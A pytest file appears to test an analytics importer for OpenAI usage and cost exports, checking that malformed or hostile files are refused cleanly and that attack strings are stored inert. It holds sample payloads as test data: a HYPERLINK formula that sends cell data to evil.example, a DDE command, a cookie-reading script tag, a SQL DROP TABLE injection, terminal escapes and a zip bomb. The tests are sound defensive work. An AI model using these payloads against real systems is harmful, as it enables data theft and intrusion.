"""Hostile and malformed input (issue 8, item 4): every bad file is refused with one plain
line that names the file and, where a line exists, the line; the store is left exactly as it
was; no traceback reaches anyone. Text meant to attack a spreadsheet, a browser or a terminal
reader is either stored verbatim (and shown inert elsewhere) or, for control characters,
refused.

The corpus is built here from the format builders of ``test_import_errors``; docs/trust.md
lists it with the result of each case.
"""

from __future__ import annotations

import gzip
import io
import json
import subprocess
import sys
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import Engine, select

from analytics.demo import COST_HEADER_V2, USAGE_HEADER
from analytics.ingest import import_sources
from analytics.store import ApiKey, Cost, Project, Usage
from tests.conftest import ROOT
from tests.helpers import store_snapshot, write
from tests.test_import_errors import (
    COST_HEADER_V1,
    DAY,
    _times,
    cost_csv,
    cost_row,
    cost_row_v2,
    csv_text,
    import_one,
    page_bytes,
    seed,
    usage_csv,
    usage_result,
    usage_row,
)


def _usage3(bad: list[str]) -> bytes:
    """A usage export whose line 3 (second data row) is the hostile one."""
    return usage_csv([usage_row(DAY, key="key_ok"), bad, usage_row(DAY, key="key_after")])


def _cost2(**fields: str) -> bytes:
    """A 10-column cost export whose line 2 carries the fault."""
    return cost_csv([cost_row(DAY, **fields)])


def _v2(project_name: str = "Project", key_name: str = "Key", quantity: str = "1000",
        line_item: str = "gpt-5-2025-08-07, input", user: str = "user_a") -> bytes:
    row = cost_row_v2(DAY, "1.50", line_item, "proj_a", "key_a", user, quantity)
    row[COST_HEADER_V2.index("project_name")] = project_name
    row[COST_HEADER_V2.index("api_key_name")] = key_name
    return csv_text(COST_HEADER_V2, [row]).encode()


def _with_time(start: str, end: str | None = None) -> bytes:
    row = usage_row(DAY, key="key_t")
    row[0] = start
    if end is not None:
        row[1] = end
    return _usage3(row)


def _zip(name: str, content: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return buffer.getvalue()


def _nested(depth: int) -> bytes:
    return b'{"object": "page", "data": ' + b"[" * depth + b"]" * depth + b"}"


_GOOD = cost_csv([cost_row(DAY, "1.25", f"gpt-5-2025-08-07, {t}") for t in ("input", "output")])
_ROW = ",".join(cost_row(DAY, "0.5", "gpt-4o, input"))
_BOMB = _zip("cost.csv", b"start_time," + b"0" * 50_000_000)  # 50 MB that deflate to ~50 kB
_SEP = "again"  # the refusal says to download (or fetch) the file again
LINE1, LINE2, LINE3 = "line 1:", "line 2:", "line 3:"

# (id, file name, content, fragments the single-line message must hold)
REFUSED = [
    # --- encoding ---
    ("utf16-le-bom", "c.csv", csv_text(COST_HEADER_V1, [cost_row(DAY)]).encode("utf-16-le")
     .join([b"\xff\xfe", b""]), ["UTF-16", "UTF-8"]),
    ("utf16-be-bom", "c.csv", b"\xfe\xff" + csv_text(COST_HEADER_V1, [cost_row(DAY)])
     .encode("utf-16-be"), ["UTF-16"]),
    ("utf16-no-bom", "c.csv", csv_text(COST_HEADER_V1, [cost_row(DAY)]).encode("utf-16-le"),
     ["NUL bytes", "exactly as the provider exported it"]),
    ("cp1252-row", "c.csv", _GOOD + _ROW.replace("Test Org", "Caf\xe9").encode("cp1252"),
     ["line 4:", "not UTF-8"]),
    ("invalid-bytes-mid-file", "c.csv", _GOOD.replace(b"Test Org", b"Test \xff\xfe Org", 1),
     [LINE2, "not UTF-8"]),
    ("invalid-bytes-in-header", "c.csv", _GOOD.replace(b"line_item", b"line_\xc3\x28item", 1),
     [LINE1, "not UTF-8"]),
    ("overlong-utf8", "c.csv", _GOOD + _ROW.replace("Test Org", "x").encode()
     .replace(b"x", b"\xc0\xaf"), ["line 4:", "not UTF-8"]),
    ("utf32-bom", "c.csv", csv_text(COST_HEADER_V1, [cost_row(DAY)]).encode("utf-32"),
     ["UTF-16", "UTF-8"]),
    # --- structure ---
    ("semicolons", "c.csv", csv_text(COST_HEADER_V1, [cost_row(DAY)]).replace(",", ";")
     .encode(), [LINE1, "';'", "comma-separated"]),
    ("tabs", "c.csv", csv_text(COST_HEADER_V1, [cost_row(DAY)]).replace(",", "\t").encode(),
     [LINE1, "tab", "comma-separated"]),
    ("ragged-short-row", "u.csv", _usage3(usage_row(DAY, key="k")[:-3]),
     [LINE3, "21 fields where the header has 24", _SEP]),
    ("ragged-long-row", "u.csv", _usage3([*usage_row(DAY, key="k"), "extra"]),
     [LINE3, "25 fields where the header has 24"]),
    ("unterminated-quote-at-end", "c.csv", _GOOD + b'1788220800,1788307200,a,b,1.5,usd,"gpt-5',
     ["line 4:", "not valid CSV", _SEP]),
    ("unterminated-quote-mid-file", "c.csv", _GOOD.replace(b'"gpt-5-2025-08-07, output"',
                                                           b'"gpt-5-2025-08-07, output', 1),
     [LINE3, "not valid CSV"]),
    ("text-after-closing-quote", "c.csv", _GOOD.replace(b'"gpt-5-2025-08-07, output"',
                                                        b'"gpt-5-2025-08-07, output"x', 1),
     [LINE3, "not valid CSV"]),
    ("embedded-newline-in-line-item", "c.csv", _cost2(line_item="gpt-5,\ninput"),
     [LINE2, "line_item", "control character (U+000A)"]),
    ("embedded-newline-then-bad-row", "c.csv", cost_csv([
        cost_row(DAY, line_item="gpt-5,\ninput"), cost_row(DAY, amount="x")]),
     [LINE2, "control character"]),
    ("bare-cr-in-project", "u.csv", _usage3(usage_row(DAY, project="proj\rx")),
     [LINE3, "5 fields where the header has 24"]),
    ("trailing-delimiter-in-header", "c.csv", _GOOD.replace(b"organization_name",
                                                            b"organization_name,", 1),
     [LINE1, "empty column name"]),
    ("header-repeated-mid-file", "c.csv", _GOOD + ",".join(COST_HEADER_V1).encode() + b"\n",
     ["line 4:", "start_time", "unix time"]),
    # --- headers ---
    ("missing-header", "c.csv", _GOOD.split(b"\n", 1)[1],
     [LINE1, "not a recognised export"]),
    ("duplicate-header-column", "c.csv", _GOOD.replace(b"organization_name", b"line_item", 1),
     [LINE1, "'line_item' twice"]),
    ("required-column-missing", "c.csv", _GOOD.replace(b"amount_currency", b"currency", 1),
     [LINE1, "amount_currency"]),
    ("header-upper-case", "c.csv", _GOOD.replace(_GOOD.split(b"\n")[0],
                                                 _GOOD.split(b"\n")[0].upper(), 1),
     [LINE1, "not a recognised export"]),
    ("20000-columns", "c.csv", (",".join([*COST_HEADER_V1, *(f"c{i}" for i in range(19_990))])
                                + "\n").encode(), [LINE1, "20,000 columns"]),
    ("html-page-renamed", "c.csv", b"<!DOCTYPE html><html><body>Login</body></html>\n",
     [LINE1, "not a recognised export"]),
    # --- numbers ---
    ("thousands-separator-amount", "c.csv", _cost2(amount="1,234.56"),
     [LINE2, "'1,234.56'", "not an amount"]),
    ("thousands-separator-count", "u.csv", _usage3(usage_row(DAY, input_tokens="1,234")),
     [LINE3, "input_tokens", "not a number"]),
    ("amount-1e309", "c.csv", _cost2(amount="1e309"), [LINE2, "far beyond any real bill"]),
    ("amount-inf", "c.csv", _cost2(amount="inf"), [LINE2, "not a finite amount"]),
    ("amount-minus-infinity", "c.csv", _cost2(amount="-Infinity"), [LINE2, "not a finite"]),
    ("amount-nan", "c.csv", _cost2(amount="NaN"), [LINE2, "not a finite amount"]),
    ("amount-20-digits", "c.csv", _cost2(amount="12345678901234567890"),
     [LINE2, "far beyond any real bill"]),
    ("amount-negative", "c.csv", _cost2(amount="-0.01"), [LINE2, "negative amount"]),
    ("amount-with-dollar-sign", "c.csv", _cost2(amount="$1.50"), [LINE2, "not an amount"]),
    ("amount-with-currency-word", "c.csv", _cost2(amount="1.50 USD"), [LINE2, "not an amount"]),
    ("amount-arabic-digits", "c.csv", _cost2(amount="\u0661\u0660"), [LINE2, "not an amount"]),
    ("count-1e309", "u.csv", _usage3(usage_row(DAY, output="1e309")),
     [LINE3, "output_tokens", "whole number"]),
    ("count-inf", "u.csv", _usage3(usage_row(DAY, requests="inf")), [LINE3, "whole number"]),
    ("count-nan", "u.csv", _usage3(usage_row(DAY, cached="nan")), [LINE3, "whole number"]),
    ("count-20-digits", "u.csv", _usage3(usage_row(DAY, input_tokens="12345678901234567890")),
     [LINE3, "too large"]),
    ("count-negative", "u.csv", _usage3(usage_row(DAY, output="-5")),
     [LINE3, "whole number of at least 0"]),
    ("count-fraction", "u.csv", _usage3(usage_row(DAY, requests="2.5")), [LINE3, "whole number"]),
    ("count-hex", "u.csv", _usage3(usage_row(DAY, input_tokens="0x10")), [LINE3, "not a number"]),
    ("count-superscript", "u.csv", _usage3(usage_row(DAY, input_tokens="\u00b2")),
     [LINE3, "not a number"]),
    ("quantity-text", "c.csv", _v2(quantity="lots"), [LINE2, "quantity", "not an amount"]),
    ("batch-not-boolean", "u.csv", _usage3(usage_row(DAY, batch="maybe")),
     [LINE3, "batch", "True or False"]),
    # --- dates ---
    ("iso-date-instead-of-unix", "u.csv", _with_time("2026-09-01"), [LINE3, "unix time"]),
    ("end-before-start", "u.csv", _with_time(_times(DAY + timedelta(days=2))[0]),
     [LINE3, "not after start_time"]),
    ("epoch-zero", "u.csv", _with_time("0", "86400"), [LINE3, "unix time"]),
    ("year-2200", "u.csv", _with_time("7258118400", "7258204800"), [LINE3, "unix time"]),
    ("fractional-seconds", "u.csv", _with_time("1788220800.5"), [LINE3, "unix time"]),
    ("empty-start-time", "u.csv", _with_time(""), [LINE3, "start_time"]),
    ("milliseconds", "u.csv", _with_time("1788220800000", "1788307200000"), [LINE3, "seconds"]),
    # --- sizes ---
    ("zero-bytes", "c.csv", b"", ["empty (0 bytes)"]),
    ("only-blank-lines", "c.csv", b"\r\n\n  \n", ["only blank lines"]),
    ("1mb-field", "c.csv", _cost2(line_item="x" * 1_000_000), [LINE2, "longer than", _SEP]),
    ("id-129-characters", "u.csv", _usage3(usage_row(DAY, project="p" * 129)),
     [LINE3, "project_id", "129 characters"]),
    ("name-300-characters", "c.csv", _v2(project_name="n" * 300),
     [LINE2, "project_name", "300 characters"]),
    # --- type ---
    ("png-renamed", "c.csv", b"\x89PNG\r\n\x1a\n" + b"\x00" * 32, ["PNG image"]),
    ("xlsx-renamed", "c.csv", _zip("xl/workbook.xml", b"<workbook/>"), ["Excel (XLSX)"]),
    ("zip-bomb", "c.csv", _BOMB, ["zip archive", "as CSV"]),
    ("gzip-renamed", "c.csv", gzip.compress(_GOOD), ["gzip archive"]),
    ("pdf-renamed", "c.csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", ["PDF document"]),
    ("xls-renamed", "c.csv", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 32,
     ["Excel (XLS)"]),
    ("json-not-a-page", "c.json", b'{"truth": 1}', ["not an OpenAI Admin API page"]),
    # --- control characters and NUL ---
    ("nul-early", "c.csv", _GOOD.replace(b"Test Org", b"Test\x00Org", 1), ["NUL bytes"]),
    ("ansi-escape-in-model", "u.csv", _usage3(usage_row(DAY, model="gpt\x1b[2J\x1b[31m")),
     [LINE3, "model", "U+001B"]),
    ("bell-in-project", "u.csv", _usage3(usage_row(DAY, project="proj\x07")),
     [LINE3, "U+0007"]),
    ("del-in-user", "u.csv", _usage3(usage_row(DAY, user="user\x7f")), [LINE3, "U+007F"]),
    ("c1-next-line-in-line-item", "c.csv", _cost2(line_item="gpt-5,\x85input"),
     [LINE2, "U+0085"]),
    ("backspace-in-key-name", "c.csv", _v2(key_name="key\x08\x08\x08"),
     [LINE2, "api_key_name", "U+0008"]),
    ("escape-in-project-name", "c.csv", _v2(project_name="\x1b]0;pwned\x07"),
     [LINE2, "project_name", "U+001B"]),
    # --- Admin API pages ---
    ("json-truncated", "usage_page.json", page_bytes({DAY: [usage_result()]})[:120],
     ["not valid JSON", "Fetch the page again"]),
    ("json-deep-nesting", "usage_page.json", _nested(100_000), ["absurdly"]),
    ("json-5000-digit-number", "usage_page.json", page_bytes({DAY: [usage_result()]})
     .replace(b'"input_tokens": 1000', b'"input_tokens": ' + b"9" * 5000),
     ["absurdly long number"]),
    ("json-bucket-not-object", "usage_page.json",
     json.dumps({"object": "page", "data": [1]}).encode(), ["entry 1:", "not a JSON object"]),
    ("json-results-not-list", "usage_page.json", json.dumps({"object": "page", "data": [
        {"start_time": 1788220800, "end_time": 1788307200, "results": "x"}]}).encode(),
     ["entry 1:", "not a list"]),
    ("json-id-is-object", "usage_page.json", page_bytes({DAY: [
        {**usage_result(), "project_id": {"$ne": None}}]}), ["entry 2:", "JSON dict"]),
    ("json-amount-infinity", "costs_page.json", json.dumps({"object": "page", "data": [
        {"start_time": 1788220800, "end_time": 1788307200, "results": [
            {"object": "organization.costs.result", "amount": {"value": "Infinity"},
             "project_id": "proj_a", "line_item": "gpt-5, input"}]}]}).encode(),
     ["entry 2:", "not a finite amount"]),
    ("json-duplicate-results", "usage_page.json", page_bytes({DAY: [usage_result()] * 2}),
     ["entry 3:", "repeats the row of entry 2"]),
]


@pytest.mark.parametrize(("name", "content", "expected"),
                         [pytest.param(n, c, e, id=i) for i, n, c, e in REFUSED])
def test_hostile_file_is_refused_with_a_line_and_the_store_is_unchanged(
        engine: Engine, tmp_path: Path, name: str, content: bytes, expected: list[str]) -> None:
    seed(engine, tmp_path)
    before = store_snapshot(engine)
    result = import_one(engine, tmp_path, name, content)
    assert not result.ok and not result.skipped
    assert result.error.startswith(name), result.error
    assert "\n" not in result.error and "Traceback" not in result.error
    for fragment in expected:
        assert fragment in result.error, (fragment, result.error)
    assert store_snapshot(engine) == before


def test_the_corpus_is_large_enough_and_every_case_distinct() -> None:
    assert len(REFUSED) + len(VERBATIM) >= 60
    assert len({i for i, *_ in REFUSED}) == len(REFUSED)
    assert len({c for _, _, c, _ in REFUSED}) == len(REFUSED)


def test_the_cli_refuses_the_whole_corpus_without_a_traceback(tmp_path: Path,
                                                              db_url: str) -> None:
    folder = tmp_path / "corpus"
    folder.mkdir()
    # CSVs only: Admin API pages of one endpoint are one import, so fewer lines than files
    paths = [str(write(folder, f"{i}_{name}", content)) for i, name, content, _ in REFUSED
             if name.endswith(".csv")]
    done = subprocess.run([sys.executable, "-m", "analytics", "import", *paths, "--db", db_url],
                          cwd=ROOT, capture_output=True, text=True, timeout=300)
    assert done.returncode == 1
    assert "Traceback" not in done.stderr and not done.stdout.strip()
    errors = [line for line in done.stderr.splitlines() if line.startswith("error: ")]
    assert len(errors) == len(paths), done.stderr


# --- text that must be kept verbatim and only ever shown as text -------------------------------

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for refund")'
SCRIPT = "<script>alert(document.cookie)</script>"
RTL = "invoice\u202etxt.exe"
VERBATIM = [
    ("formula-project-name", _v2(project_name=HYPERLINK), Project.name, HYPERLINK),
    ("script-in-model", _usage3(usage_row(DAY, model=SCRIPT)), Usage.model, SCRIPT),
    ("rtl-override-key-name", _v2(key_name=RTL), ApiKey.name, RTL),
    ("dde-in-line-item", _cost2(line_item="+cmd|' /C calc'!A0, input"), Cost.line_item,
     "+cmd|' /C calc'!A0, input"),
    ("at-formula-user", _usage3(usage_row(DAY, user="@SUM(1+1)*cmd")), Usage.user_id,
     "@SUM(1+1)*cmd"),
    ("markdown-link-project-name", _v2(project_name="[Log in again](https://evil.example)"),
     Project.name, "[Log in again](https://evil.example)"),
    ("emoji-and-zero-width", _v2(project_name="Prod\u200d\U0001f525 \u00e9t\u00e9"),
     Project.name, "Prod\u200d\U0001f525 \u00e9t\u00e9"),
    ("sql-in-project-id", _usage3(usage_row(DAY, project="x'); DROP TABLE usage;--")),
     Usage.project_id, "x'); DROP TABLE usage;--"),
]


@pytest.mark.parametrize(("content", "column", "text"),
                         [pytest.param(c, col, t, id=i) for i, c, col, t in VERBATIM])
def test_attacking_text_is_stored_verbatim(engine: Engine, tmp_path: Path, content: bytes,
                                           column: object, text: str) -> None:
    result = import_one(engine, tmp_path, "export.csv", content)
    assert result.ok, result.error
    with engine.connect() as conn:
        stored = set(conn.execute(select(column)).scalars())
    assert text in stored


def _reordered(header: list[str], rows: list[list[str]]) -> bytes:
    order = list(reversed(range(len(header))))
    return csv_text([header[i] for i in order], [[r[i] for i in order] for r in rows]).encode()


ACCEPTED = [
    pytest.param(_reordered(USAGE_HEADER, [usage_row(DAY), usage_row(DAY, key="key_b")]),
                 2, id="reordered-columns"),
    pytest.param(usage_csv([usage_row(DAY), usage_row(DAY, key="key_b")]).replace(
        b"start_time,end_time", b" start_time , end_time ", 1), 2, id="padded-header-names"),
    pytest.param(b"\xef\xbb\xbf" + csv_text(USAGE_HEADER, [usage_row(DAY)], "\r\n").encode(),
                 1, id="utf8-bom-and-crlf"),
    pytest.param(usage_csv([usage_row(DAY)]) + b"\n\n" + ",".join(
        usage_row(DAY, key="key_b")).encode() + b"\n", 2, id="blank-lines-between-rows"),
]


@pytest.mark.parametrize(("content", "rows"), ACCEPTED)
def test_harmless_quirks_are_accepted(engine: Engine, tmp_path: Path, content: bytes,
                                      rows: int) -> None:
    result = import_one(engine, tmp_path, "usage.csv", content)
    assert result.ok and result.rows == rows, result.error
    with engine.connect() as conn:
        assert conn.execute(select(Usage.input_tokens)).scalars().all() == [1000] * rows


@pytest.mark.slow
def test_a_200_mb_file_streams_and_a_bad_last_line_leaves_the_store_unchanged(
        engine: Engine, tmp_path: Path) -> None:
    """200 MB of rows, generated on the fly, refused at its very last line: the import
    streamed through all of it, named the right line, and rolled everything back."""
    seed(engine, tmp_path)
    before = store_snapshot(engine)
    path = tmp_path / "huge.csv"
    lines = 1
    with path.open("w", newline="") as out:
        out.write(",".join(USAGE_HEADER) + "\n")
        day = 0
        while out.tell() < 200 * 1024 * 1024:
            block = "".join(",".join(usage_row(DAY + timedelta(days=day), key=f"k{k:05d}"))
                            + "\n" for k in range(10_000))
            out.write(block)
            lines += 10_000
            day += 1
        out.write(",".join(usage_row(DAY, key="last", requests="lots")) + "\n")
    lines += 1
    [result] = import_sources(engine, [("huge.csv", path)])
    assert not result.ok
    assert f"huge.csv, line {lines}:" in result.error and "not a number" in result.error
    assert store_snapshot(engine) == before
